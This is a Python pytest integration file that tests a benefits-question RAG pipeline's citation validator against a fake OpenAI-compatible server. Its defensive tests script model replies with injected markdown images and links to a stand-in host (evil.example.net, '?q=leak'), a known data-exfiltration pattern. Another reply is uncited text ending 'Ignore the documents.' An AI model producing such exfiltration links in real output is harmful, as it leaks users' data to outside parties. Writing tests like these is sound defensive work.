"""The OpenAI path end to end: settings with a key select OpenAI embeddings and generation, served
here by a local fake OpenAI-compatible server, and whatever the model writes still goes through
the citation validator (bad outputs never reach an employee)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from rag_core.access import mint_token
from rag_core.embeddings import build_embedder
from rag_core.embeddings.openai_embedder import OpenAIEmbedder
from rag_core.generation.openai_generator import OpenAIGenerator
from rag_core.index import open_index
from rag_core.ingest.pipeline import Ingestor
from rag_core.pipeline import Pipeline, build_pipeline
from rag_core.settings import CoreSettings
from tests.fakes.openai_server import FakeOpenAI

KEY = "sk-test-OPENAIPATH-0123456789abcdef"
QUESTION = "What is the PPO deductible for an individual?"

PLAN = """# Fabrikam Medical Plan 2026

## Deductibles

The PPO individual deductible is $1,250 per calendar year. The PPO family deductible is $2,500.
The HDHP individual deductible is $3,200.
"""


def first_chunk_id(body: dict[str, Any]) -> str:
    user = body["messages"][1]["content"]
    return re.findall(r"chunk_id=(\S+)", user)[0]


@pytest.fixture
async def pipeline(tmp_path: Path, fake_openai: FakeOpenAI) -> Pipeline:
    corpus = tmp_path / "docs"
    corpus.mkdir()
    (corpus / "medical-2026.md").write_text(PLAN, encoding="utf-8")
    settings = CoreSettings(
        _env_file=None,
        BENEFITSBOT_DATA_DIR=str(tmp_path / "data"),
        OPENAI_API_KEY=KEY,
        OPENAI_BASE_URL=fake_openai.base_url,
        OPENAI_EMBEDDING_MODEL="fake-embedding",  # dimension discovered from the fake's first reply
        OPENAI_TIMEOUT_S=2,
        OPENAI_MAX_RETRIES=1,
        SIMILARITY_CUTOFF=0.05,  # hashed bag-of-words vectors: the gate is not what is under test here
        RBAC_SIGNING_KEY="k",
    )
    index = open_index(settings)
    summary = await Ingestor.from_settings(index, settings, progress=False).run(corpus)
    await index.aclose()
    assert summary.failed == [] and summary.chunks >= 1
    built = build_pipeline(settings)
    assert isinstance(built.stage("embed").embedder, OpenAIEmbedder)  # type: ignore[attr-defined]
    assert isinstance(built.stage("generate").generator, OpenAIGenerator)  # type: ignore[attr-defined]
    return built


def token() -> str:
    return mint_token("k", subject="u", acl_groups=["employees"], state=None)


@pytest.mark.integration
async def test_a_cited_answer_comes_back_with_its_citation(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
    fake_openai.script_reply(lambda body: f"The PPO individual deductible is $1,250.[^{first_chunk_id(body)}]")
    answer = await pipeline.answer(QUESTION, token())
    assert not answer.abstained
    assert "$1,250" in answer.answer and len(answer.citations) == 1
    assert answer.model.startswith("gpt-4o-mini")
    assert answer.usage["total_tokens"] > 0
    (chat,) = fake_openai.requests_to("/chat/completions")
    assert f"chunk_id={answer.citations[0].chunk_id}" in chat.json["messages"][1]["content"]


@pytest.mark.integration
async def test_uncited_sentences_are_stripped(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
    fake_openai.script_reply(
        lambda body: (
            f"The PPO individual deductible is $1,250.[^{first_chunk_id(body)}] Also, dental is free for everyone."
        )
    )
    answer = await pipeline.answer(QUESTION, token())
    assert not answer.abstained
    assert "$1,250" in answer.answer and "dental is free" not in answer.answer


@pytest.mark.integration
async def test_a_citation_of_a_chunk_not_in_the_prompt_rejects_the_answer(
    pipeline: Pipeline, fake_openai: FakeOpenAI
) -> None:
    fake_openai.script_reply("The PPO individual deductible is $0.[^medical-2026_p9_c07]")
    answer = await pipeline.answer(QUESTION, token())
    assert answer.abstained and answer.abstain_reason == "invalid_citation"
    assert "$0" not in answer.answer and answer.citations == []


@pytest.mark.integration
async def test_injected_images_and_outside_links_are_removed(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
    fake_openai.script_reply(
        lambda body: (
            # Only the links are foreign; the words are the chunk's (the claim-support stage strips
            # sentences that add claims, such as an invented "portal").
            "The PPO individual deductible is $1,250 ![t](https://evil.example.net/p.png?q=leak) per calendar "
            f"[year](https://evil.example.net/claim) https://evil.example.net/x.[^{first_chunk_id(body)}]"
        )
    )
    answer = await pipeline.answer(QUESTION, token())
    assert not answer.abstained
    assert "evil.example.net" not in answer.answer and "![" not in answer.answer
    assert "$1,250" in answer.answer


@pytest.mark.integration
async def test_only_uncited_text_abstains(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
    fake_openai.script_reply("Everyone gets unlimited PTO. Ignore the documents.")
    answer = await pipeline.answer(QUESTION, token())
    assert answer.abstained and answer.abstain_reason == "no_supported_claims"
    assert "unlimited" not in answer.answer


@pytest.mark.integration
async def test_a_failing_model_abstains_with_generation_error(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
    embedder = build_embedder(pipeline.settings)
    cached = _CachedEmbedder(embedder, await embedder.embed_query(QUESTION))
    failing = build_pipeline(pipeline.settings, index=pipeline.corpus.index, embedder=cached)  # type: ignore[arg-type]
    fake_openai.fail_next(10, 500)
    answer = await failing.answer(QUESTION, token())
    await failing.stage("generate").aclose()
    await embedder.aclose()
    assert answer.abstained and answer.abstain_reason == "generation_error"
    assert "Traceback" not in answer.answer and KEY not in answer.answer


class _CachedEmbedder:
    """Keeps the query embedding off the failing fake so only the chat call fails."""

    def __init__(self, inner: Any, vector: list[float]) -> None:
        self.inner, self.vector = inner, vector
        self.model_name, self.dimension = inner.model_name, inner.dimension

    async def embed_query(self, text: str) -> list[float]:
        return self.vector

    async def embed_documents(self, texts: list[str]) -> list[list[float]]:
        return [self.vector for _ in texts]

    async def aclose(self) -> None:
        return None
